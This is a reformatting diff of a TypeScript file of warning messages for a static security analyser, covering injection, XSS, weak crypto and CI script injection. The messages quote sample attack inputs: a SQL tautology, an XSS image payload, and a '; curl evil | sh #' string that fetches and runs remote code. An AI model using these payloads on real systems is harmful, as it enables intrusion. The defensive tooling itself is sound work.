@@ -23,7 +23,8 @@ export type SecurityMessageId =
 export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
   codeInjection: {
     title: '{{sink}} runs code built from {{input}} in {{function}}',
-    message: '{{function}} passes `{{arg}}` to {{sink}}{{path}}; text that reaches it runs as {{language}} code with the program\'s rights.'
+    message:
+      "{{function}} passes `{{arg}}` to {{sink}}{{path}}; text that reaches it runs as {{language}} code with the program's rights."
   },
   commandInjection: {
     title: '{{sink}} runs a shell command built from {{input}} in {{function}}',
@@ -33,7 +34,7 @@ export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
   sqlInjection: {
     title: 'SQL built by {{build}} from {{input}} reaches {{sink}} in {{function}}',
     message:
-      '{{function}} builds the query `{{arg}}` by {{build}} and passes it to {{sink}}{{path}}; a value like `\' OR 1=1 --` changes the query. Use placeholders and pass the values apart.'
+      "{{function}} builds the query `{{arg}}` by {{build}} and passes it to {{sink}}{{path}}; a value like `' OR 1=1 --` changes the query. Use placeholders and pass the values apart."
   },
   pathTraversal: {
     title: '{{sink}} opens a path built from {{input}} in {{function}}',
@@ -47,7 +48,8 @@ export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
   },
   xss: {
     title: '{{sink}} receives HTML built from {{input}} in {{function}}',
-    message: '{{function}} puts `{{arg}}` into {{sink}}{{path}} without escaping; `<img src=x onerror=alert(1)>` runs script in the page.'
+    message:
+      '{{function}} puts `{{arg}}` into {{sink}}{{path}} without escaping; `<img src=x onerror=alert(1)>` runs script in the page.'
   },
   ssrf: {
     title: '{{sink}} requests a URL from {{input}} in {{function}}',
@@ -56,7 +58,8 @@ export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
   },
   unsafeDeserialisation: {
     title: '{{sink}} deserialises {{input}} in {{function}}',
-    message: '{{function}} calls {{sink}} on `{{arg}}`{{path}}; {{why}} Use a data-only format (JSON, yaml.safe_load / SafeLoader).'
+    message:
+      '{{function}} calls {{sink}} on `{{arg}}`{{path}}; {{why}} Use a data-only format (JSON, yaml.safe_load / SafeLoader).'
   },
   weakHash: {
     title: '{{algorithm}} hashes {{subject}} in {{function}}',
@@ -65,7 +68,8 @@ export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
   },
   weakCipher: {
     title: '{{sink}} uses the weak cipher setting {{algorithm}} in {{function}}',
-    message: '{{function}} calls {{sink}} with {{algorithm}}: {{why}} Use AES-GCM (or ChaCha20-Poly1305) with a random IV per message.'
+    message:
+      '{{function}} calls {{sink}} with {{algorithm}}: {{why}} Use AES-GCM (or ChaCha20-Poly1305) with a random IV per message.'
   },
   insecureRandom: {
     title: '{{sink}} makes {{subject}} in {{function}}',
@@ -74,7 +78,8 @@ export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
   },
   tlsVerificationDisabled: {
     title: 'TLS certificate checks are switched off ({{setting}}) in {{function}}',
-    message: '{{function}} sets {{setting}}, so any certificate is accepted and a network attacker can read and change the traffic.'
+    message:
+      '{{function}} sets {{setting}}, so any certificate is accepted and a network attacker can read and change the traffic.'
   },
   hardcodedSecret: {
     title: 'Hard-coded {{kind}} ({{masked}}) in {{where}}',
@@ -87,7 +92,8 @@ export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
       'Step {{step}} of job {{job}} puts `{{expression}}` into its shell script; {{who}} controls that text, so `"; curl evil | sh #` runs as code{{privilege}}. Pass it through env: and read "$VAR".'
   },
   redosOnInput: {
-    title: 'Regular expression {{pattern}} applied to {{input}} can backtrack {{complexity}} in {{function}}',
+    title:
+      'Regular expression {{pattern}} applied to {{input}} can backtrack {{complexity}} in {{function}}',
     message:
       '{{function}} matches `{{subject}}` against {{pattern}} in {{sink}}{{path}}; recheck found that an input like {{attack}} makes it backtrack {{complexity}}, so {{effect}} Limit the input length before matching or rewrite the pattern so that no two quantifiers can match the same text.'
   },
